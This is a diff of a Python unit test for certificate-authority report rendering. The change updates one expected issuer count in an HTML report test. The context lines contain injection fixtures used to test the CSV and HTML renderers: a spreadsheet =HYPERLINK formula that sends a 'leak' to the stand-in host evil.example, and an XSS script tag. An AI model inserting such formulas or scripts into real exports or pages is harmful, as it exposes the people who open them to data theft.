@@ -21,7 +21,7 @@ from server.reports.model import Chart, Report, columns_of, text_rows
 from server.reports.render_csv import render_csv
 from server.reports.render_html import render_html
 from server.reports.render_json import render_json
-from tests.unit.server.reports.report_scenario import build, foreign_der
+from tests.unit.server.reports.report_scenario import baseline_issuers, build, foreign_der
 
 FORMULA_OWNERS = ('=HYPERLINK("http://evil.example/?leak","click")', "+1", "-1", "@x")
 SCRIPT = "<script>alert(1)</script>"
@@ -139,7 +139,8 @@ async def test_html_page(ca: CertificateAuthority, tmp_path: Path) -> None:
     assert page.captions == [chart.title for chart in report.charts] and len(page.charts) == 3
     _assert_charts_print_their_counts(report, page)
     per_issuer = dict(zip(report.charts[0].labels, report.charts[0].series[0].values, strict=True))
-    assert per_issuer[SCRIPT_SUBJECT] == 1 and per_issuer[ca.default_issuer] == len(s.baseline) + 4
+    own = await baseline_issuers(ca, s.baseline)  # the CA's own certificates are inventoried too
+    assert per_issuer[SCRIPT_SUBJECT] == 1 and per_issuer[ca.default_issuer] == own[ca.default_issuer] + 4
 
     for other in (
         await expiring_report(ca, days=30, now=s.now),
